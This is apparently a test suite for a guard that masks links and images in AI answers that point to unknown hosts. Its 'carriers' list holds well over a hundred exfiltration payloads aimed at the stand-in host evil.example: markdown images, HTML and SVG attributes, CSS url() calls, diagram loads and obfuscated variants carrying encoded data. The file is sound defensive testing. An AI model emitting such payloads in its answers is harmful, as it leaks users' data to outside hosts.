import { expect } from "chai";
import fc from "fast-check";
import { linksInAnswer } from "../server/guards/links.ts";
import { passage } from "../server/pipeline/passage.ts";
import { cut, throughGate } from "./support/gate.ts";

const guard = linksInAnswer({ action: "mask", hosts: ["wiki.example", "*.bank.example"] });
const host = "evil.example";
const data = "c2VjcmV0".repeat(10);

/** What a viewer loads or a reader may follow, and would carry something outwards. */
const carriers = [
  `![x](https://${host}/a.png)`,
  `![x](<https://${host}/a b.png> "t")`,
  `> ![x](\n> https://${host}/a.png)`,
  `![a][x]\n\n> [x]:\n> https://${host}/a.png`,
  `![a][x]\n\n> > [x]:\n> >   <https://${host}/a.png>`,
  `> ![a][b\n> c]\n\n[b c]: https://${host}/a.png`,
  `![x](<https://wiki.example\\>@${host}/a.png>)`,
  `<image x:href="https://${host}/a.png">`,
  `![x](https://${host}/a.png "a\\"b")`,
  `![x \`]\` ${"and so on ".repeat(60)}](https://${host}/a.png)`,
  `![x](https://${host}/a.png "${"t".repeat(400)}")`,
  `![a][${"x".repeat(1_200)}]\n\n[${"x".repeat(1_200)}]: https://${host}/a.png`,
  `![x](//${host}/a.png)`,
  `![x](\\\\${host}\\a.png)`,
  `![x](https&colon;//${host}/a.png)`,
  `![x](https\\://${host}/a.png)`,
  `![x](&#104;ttps:&#x2f;/${host}/a.png)`,
  `![[a]](https://${host}/a.png)`,
  `![[[a] b] c](https://${host}/a.png)`,
  `![a\nb](https://${host}/a.png)`,
  `![a\\]](https://${host}/a.png)`,
  `![x](\n\n\nhttps://${host}/a.png\n"title")`,
  `![\`[\`](https://${host}/a.png)`,
  `![\`](a.png)\`](https://${host}/a.png)`,
  `![<b title="](a.png)">](https://${host}/a.png)`,
  `![${"x".repeat(1_100)}](https://${host}/a.png)`,
  `![x](https://wiki.example\\)@${host}/a.png)`,
  `![x](https://(.bank.example)@${host}/a.png)`,
  `![x](https://(.wiki.example)/a)`.replace("wiki.example", host),
  `![a][x]\n\n[x]: https://${host}/a.png`,
  `![x][]\n\n[X]: //${host}/a.png`,
  `![1]\n\n[1]: <https://${host}/a.png>`,
  `![x](a b)\n\n[x]: https://${host}/a.png`,
  `![a][ß]\n\n[ss]: https://${host}/a.png`,
  `![a][b\\]c]\n\n[b\\]c]: https://${host}/a.png`,
  `![a][b\\[c]\n\n[b\\[c]: https://${host}/a.png`,
  `<img a" alt=">" src="https://${host}/a.png">`,
  `<img x=y=" z=">" src="https://${host}/a.png">`,
  `<a "><img alt=">" src="https://${host}/a.png">`,
  `<img src="https://${host}/a.png">`,
  `<img src=//${host}/a.png>`,
  `<img srcset="/a.png 1x, //${host}/b.png 2x">`,
  `<img xsrc="/a.png" src="https://${host}/a.png">`,
  `<img alt=">" src="https://${host}/a.png">`,
  `<IMG SRC='https&#58;//${host}/a.png'>`,
  `<video poster="//${host}/a.png">`,
  `<body background="https://${host}/a.png">`,
  `<img alt="src=" src="https://${host}/a.png">`,
  `<img src="/\t/${host}/a.png">`,
  `<img src${" ".repeat(20)}=${" ".repeat(20)}"https://${host}/a.png">`,
  `<img srcset="a.png&#32;1x&#44;&#32;//${host}/b.png&#32;2x">`,
  `<img src="/&#00000000047;${host}/a.png">`,
  `<tr background="https://${host}/a.png">`,
  `<img attributionsrc=//${host}/?d=secret src=a.png>`,
  `<img attributionsrc="/a https://${host}/b" src=a.png>`,
  `<a href="/a" ping="/a https://${host}/b">x</a>`,
  `<source src="https://${host}/a.mp4">`,
  `https://${host}/?q=${data}`,
  `[x](//${host}/?q=${data})`,
  `[x](https&colon;//${host}/?q=${data})`,
  `[x](mailto:a@${host}?body=${data})`,
  `https://${host}${"/secretsecret".repeat(20)}`,
  `https://user:pass@${host}/`,
  `[x](https://${host}/()?q=${data})`,
  `[x](https://${host}/\\)?q=${data})`,
  `[x](<https://${host}/a b?q=${data}>)`,
  `[c][2]\n\n[2]: //${host}/?q=${data}`,
  `https://${host}/'?q=${data}`,
  `www.${host}/?q=${data}`,
  `https://${host}/?q=${data})https://${host}/?q=${data}`,
  `[x](https://${host}/${"a/".repeat(2_000)})`,
  `<a href="//${host}/?q=${data}">x</a>`,
  `<a href="https:\\\\${host}/?q=${data}">x</a>`,
  // Behind a bracket or a quotation mark, as GitHub's Markdown reads an address.
  `https://${host}/)?q=${data}`,
  `https://${host}/]?q=${data}`,
  `https://${host}/>?q=${data}`,
  `"https://${host}/"?q=${data}`,
  `www.${host}/)?q=${data}`,
  `<https://${host}/)?q=${data}>`,
  `http://${host})?q=${data}`,
  `\\[https://${host}/](?q=${data})`,
  `\`[\`https://${host}/](?q=${data})`,
  `[https://${host}/](?q=${data}`,
  `[^1](https://${host}/)?q=${data}`,
  `[a|b](https://${host}/)?q=${data}`,
  `x](https://${host}/)?q=${data}`,
  `[x](\n\nhttps://${host}/)?q=${data}`,
  // Behind a letter, a digit or a line.
  `_https://${host}/?q=${data}`,
  `0https://${host}/?q=${data}`,
  `_www.${host}/?q=${data}`,
  `${"a".repeat(60)}https://${host}/?q=${data}`,
  `https://:${data}@${host}/`,
  // As it is read without escapes and entities, without a scheme or slashes, in another, and what only hides.
  `https&#58;//${host}/?q=${data}`,
  `https:&#47;/${host}/?q=${data}`,
  `https\\://${host}/?q=${data}`,
  `//${host}/?q=${data}`,
  `<https:${host}/?q=${data}>`,
  `<https:/${host}/?q=${data}>`,
  `<mailto:a@${host}?body=${data}>`,
  `foo://wiki.example/https://${host}/?q=${data}`,
  `<img https://u@${host}/?q="x src=//${host}/a.png y">`,
  `https://${"secretsecret.".repeat(16)}${host}/`,
  // Of another scheme than the page's.
  `![x](https:${host}/a.png)`,
  `![x](http:/${host}/a.png)`,
  `<img src="https:${host}/a.png">`,
  `[x](https:${host}/?q=${data})`,
  // What styles, SVG and elements that nobody uses load.
  `<rect fill="url(https://${host}/a)"/>`,
  `<p style="background:url(https://${host}/a)">`,
  `<p style="background:u\\72l(https://${host}/a)">`,
  `<p style="background:image-set('//${host}/a' 1x)">`,
  `<circle stroke="url&lpar;'//${host}/a#b')"/>`,
  `<g style='@import "https://${host}/a"'>`,
  `<a style="background:url(//${host}/a)">`,
  `<image href="https://${host}/a.png">`,
  `<image xlink:href="https://${host}/a.png">`,
  `<feImage href="https://${host}/a.png">`,
  `<use href="https://${host}/a.svg#x">`,
  `<animate attributeName="fill" values="red;url(//${host}/a)">`,
  `<set attributeName="href" to="//${host}/a">`,
  `<mglyph src="//${host}/a.png">`,
  `<base href="//${host}/">`,
  `<a ping="https://${host}/" href="/x">`,
  `<form action="https://${host}/">`,
  `<button formaction="https://${host}/">`,
  `<i srcdoc="<img src=//${host}/a.png>">`,
  `<img src="https://${host}/a.png>`,
];

const harmless = [
  "![a heron](heron.png) and ![b](/b.png)",
  "![logo](https://wiki.example/logo.png) and <img src='https://www.bank.example/a.png'>",
  "See https://en.wikipedia.example/wiki/Heron#Diet or [this](https://a.example/b/c?page=2).",
  "wow! [x](y) and a[0] ![",
  "<table><td>1</td></table> 1 < 2 <b>bold</b>",
  "if (!a[0]) return; b = !c[d];",
  'let v = vec![1, 2, 3]; println!["a"]; match![1].trim(); if (![1, 2].includes(x)) {}',
  "Great![1] See [2].\n\n[2]: https://en.wikipedia.example/wiki/Heron\n",
  "![a](heron.png) and [more](https://en.wikipedia.example/wiki/Heron) `![x]`.",
  `f[0](function(){${"a".repeat(1_500)}})`,
  '{"source":"https://en.wikipedia.example/wiki/Heron","title":"Heron"}',
  "[https://a.example/list?page=2&sort=asc](https://a.example/list?page=2&sort=asc)[2](https://b.example/list?page=2&sort=asc)",
  'Say `curl "http://localhost:8080",` or fetch("https://api.example/v1/items?limit=10").then(r => r.json()), over http:// or https://.',
  '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#a)"/><use href="#a"/><animate values="0;1;0"/></svg>',
  '<p style="background:url(a.png); color:red" title="url(x)">a</p> <form action="/search"> <a href="https://a.example/b">c</a>',
];

describe("links and pictures in an answer", () => {
  for (const carrier of carriers)
    it(`lets no ${JSON.stringify(carrier).slice(0, 60)} out`, async () => {
      for (const text of [carrier, `so ${carrier} it is`]) {
        for (const lengths of [[1], [3], [7, 2], [400]]) {
          const out = (await throughGate(cut(text, lengths), [guard])).left.join("");
          expect(out, out).to.match(/\[(?:picture|link) withheld\]/u);
          expect(out, out).to.not.include(host);
        }
      }
    });

  it("puts a space into the beginning of an element that is longer than what is waited for", async () => {
    for (const quote of ['"', "'", '">'])
      for (const lengths of [[7], [9_000]]) {
        const text = `so <img alt=${quote}${"a".repeat(5_000)}${quote.slice(0, 1)} src="https://${host}/a.png"> it is`;
        expect((await throughGate(cut(text, lengths), [guard])).left.join("")).to.match(/^so < img alt=/u);
      }
  });

  it("comes to an end where what is withheld goes on from what has left", async () => {
    for (const text of [
      `https:/\\${host}/${data}http:\\\\${host}\\a\\\\[^1]: | http://${host}/a/${data}fill='url("`,
      `${"ü".repeat(300)}.com/?q=${data} [x](y) <b>${data}</b>`,
      `https://${host}/?q=${"a".repeat(9_000)}](x) it is`,
    ])
      for (const lengths of [[1], [6], [7, 2], [400]])
        expect((await throughGate(cut(text, lengths), [guard])).left.join("").length).to.be.below(3 * text.length);
  });

  it("puts a space into a picture that is longer than what is waited for", async () => {
    for (const lengths of [[7], [9_000]]) {
      const text = `so ![${"a ".repeat(2_500)}](https://${host}/a.png) it is`;
      expect((await throughGate(cut(text, lengths), [guard])).left.join("")).to.not.include("![");
    }
  });

  it("withholds what viewers make a link of without a scheme, and no other words with a dot", async () => {
    for (const lengths of [[1], [7], [400]]) {
      const left = async (text: string): Promise<string> => (await throughGate(cut(text, lengths), [guard])).left.join("");
      expect(await left(`so evil.com/?q=${data} it is`)).to.equal("so [link withheld] it is");
      expect(await left(`so evil.com:80/?q=${data}`)).to.equal("so [link withheld]");
      for (const text of [
        "See wiki.com/page?x=1, src/app.module.ts, docs/a.md#some-section, a//b and 1/2.",
        `user.id?.toString(); //console.log(a:b) ${"/".repeat(80)} http://localhost:8080", `,
      ])
        expect(await left(text)).to.equal(text);
    }
  });

  it("withholds a picture whose address has left before", async () => {
    for (const lengths of [[1], [7, 2], [400]]) {
      const out = (await throughGate(cut(`[x]: https://${host}/a.png\n\nSo ![x] it is, and ![A][X].`, lengths), [guard])).left.join("");
      expect(out).to.match(/So \[picture withheld\] it is, and \[picture withheld\]\.$/u);
    }
  });

  it("leaves alone what carries nothing, however it is cut", async () => {
    for (const text of harmless)
      for (const lengths of [[1], [2, 5], [9], [400]])
        expect((await throughGate(cut(text, lengths), [guard])).left.join("")).to.equal(text);
  });

  it("withholds whatever a drawing would load from hosts that are not known, and nothing of other code", async () => {
    const vega = `\`\`\`vega-lite\n{"data": {"url": "https://${host}/?d=a"}}\n\`\`\``;
    const mermaid = `> ~~~~ mermaid\n> A@{ img: "https://${host}/p.png" }\n> ~~~\n> B@{ img: "https://${host}/q.png" }\n> ~~~~`;
    for (const lengths of [[1], [7, 2], [400]]) {
      const left = async (text: string): Promise<string> => (await throughGate(cut(text, lengths), [guard])).left.join("");
      for (const text of [vega, mermaid, `Look:\n\`\`\`dot\n\`\`\`js\na [image="https://${host}/a.png"]`])
        expect(await left(text))
          .to.include("[picture withheld]")
          .and.not.include(host);
      for (const text of [
        `\`\`\`js\nfetch("https://${host}/a")\n\`\`\``,
        `\`\`\`mermaid\nA --> B\n\`\`\`\nSee https://${host}/a`,
        vega.replace(host, "wiki.example"),
      ])
        expect(await left(text)).to.equal(text);
    }
  });

  it("judges styles that another guard would take out, when there is none", async () => {
    const text = "so <style>@import x</style>";
    const beside = linksInAnswer({ action: "mask", hosts: [], leavesActive: true });
    expect((await throughGate([text], [guard])).left.join("")).to.equal("so [picture withheld]@import x</style>");
    expect((await throughGate([text], [beside])).left.join("")).to.equal(text);
  });

  it("ends an address where its string ends, in JSON", async () => {
    const text = `{"a":"https://a.example/p?id=1","b":"${data}","c":"https://${host}/?q=${data}"}`;
    const segment = { released: passage(""), before: "", passage: passage(text), ahead: "", last: true, answer: { isJson: true } };
    const { findings } = await guard.inspect(segment, { caller: "app" });
    expect(findings.map(({ span }) => text.slice(span.start, span.end))).to.deep.equal([`https://${host}/?q=${data}`]);
  });

  it("takes no longer for text that is made to be slow", async () => {
    for (const piece of [
      `![a]${"\\[\\]:".repeat(1_600)}`,
      "![",
      "![[",
      "<img ",
      '<img "',
      "](",
      "&#x",
      "![x](",
      "http://a",
      "![",
      "[a]: b ",
      "![a][b] [b]: c ",
      "<a ",
      '<a "',
      "www.",
      "<a '>",
      '<img =">',
      "![a][\\",
      "]:",
      "([",
      "<b",
      "<b/",
      "<b a=url(",
      'http://a"',
      "[x](http://a)",
      "a.b.",
      "a.io/",
      "//a.b",
      "\\\\(",
      "<a:",
    ].map((one) => one.repeat(16_000 / one.length))) {
      const begun = process.cpuUsage();
      guard.wait(piece);
      await guard.inspect({ released: passage(""), before: "", passage: passage(piece), ahead: "", last: true }, { caller: "app" });
      expect(process.cpuUsage(begun).user, piece.slice(0, 8)).to.be.below(500_000);
    }
  });

  it("finds the same in whatever pieces an answer comes", async () => {
    // A link that reaches into a picture.
    const reaching = [
      '{"source":"https://en.wikipedia.example/wiki/Heron","title":"Heron"}',
      `![${"x".repeat(1_100)}](https://${host}/a.png)`,
      `![a][${"x".repeat(1_200)}]\n\n[${"x".repeat(1_200)}]: https://${host}/a.png`,
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...carriers, ...harmless, " ", "\n", "[", "]", "(", ")", "!", "<", ">"), { minLength: 1, maxLength: 4 }),
        fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 4 }),
        async (pieces, lengths) => {
          const text = pieces.join("");
          const whole = (await throughGate([text], [guard])).left.join("");
          const out = (await throughGate(cut(text, lengths), [guard])).left.join("");
          expect(out.includes(host), `${text}\n${out}`).to.equal(whole.includes(host));
        },
      ),
      { numRuns: 300, examples: [[reaching, [1]]] },
    );
  }).timeout(60_000);
});
